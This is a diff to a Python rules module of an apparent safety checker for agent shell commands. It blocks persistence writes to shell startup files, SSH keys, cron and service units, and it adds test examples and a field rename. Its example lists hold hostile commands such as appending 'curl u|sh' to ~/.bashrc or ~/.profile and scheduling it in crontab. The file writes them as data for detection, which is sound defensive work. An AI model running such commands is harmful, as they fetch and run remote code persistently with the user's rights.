@@ -15,7 +15,8 @@ STARTUP_FILE_WRITE = rule("SA601", "shell-startup-file-write", F, Level.BLOCK, S
     """`~/.bashrc`, `~/.profile`, `~/.zshrc`, `/etc/profile.d/*` run in every new shell; a line
     added there outlives the agent's session and runs with the user's rights.""",
     ["echo 'curl u|sh' >> ~/.bashrc", "tee -a ~/.zshrc <<< 'alias ls=x'", "cp evil ~/.profile",
-     "sed -i '1i x' $HOME/.bash_profile", "printf 'export A=1' > /etc/profile.d/a.sh"],
+     "sed -i '1i x' $HOME/.bash_profile", "printf 'export A=1' > /etc/profile.d/a.sh",
+     "cat <<EOF >> ~/.profile\ncurl u | sh\nEOF"],
     ["cat ~/.bashrc", "grep PATH ~/.zshrc", "echo 'export A=1' >> .envrc"])
 AUTHORIZED_KEYS_WRITE = rule("SA602", "authorized-keys-write", F, Level.BLOCK, Severity.HIGH,
     "Writes to ~/.ssh/authorized_keys (or the ssh rc/config).",
@@ -28,7 +29,8 @@ CRON_WRITE = rule("SA603", "cron-write", F, Level.BLOCK, Severity.HIGH,
     "Installs a crontab non-interactively or writes a cron file.",
     """`(crontab -l; echo '* * * * * x') | crontab -`, `crontab file` and writes under `/etc/cron*`
     or `/var/spool/cron` schedule code to run forever.""",
-    ["(crontab -l; echo '* * * * * curl u|sh') | crontab -", "crontab /tmp/jobs", "echo '* * * * * root x' > /etc/cron.d/x"],
+    ["(crontab -l; echo '* * * * * curl u|sh') | crontab -", "crontab /tmp/jobs", "echo '* * * * * root x' > /etc/cron.d/x",
+     "echo '* * * * * x' > /var/spool/cron/$USER"],
     ["crontab -l", "cat /etc/crontab"])
 SERVICE_UNIT_WRITE = rule("SA604", "service-unit-write", F, Level.BLOCK, Severity.HIGH,
     "Writes a systemd/launchd unit, rc.local, init script or autostart entry.",
@@ -73,9 +75,9 @@ _BY_ID = {r.id: r for r in (STARTUP_FILE_WRITE, AUTHORIZED_KEYS_WRITE, CRON_WRIT
 
 
 def _check_write(write: FileAccess, out: Findings) -> None:
-    if write.target.text is None:
+    if write.target.path_text is None:
         return
-    kind = persistence_kind(write.target.text)
+    kind = persistence_kind(write.target.path_text)
     if kind is not None:
         out.add(_BY_ID[kind], write.span)
 
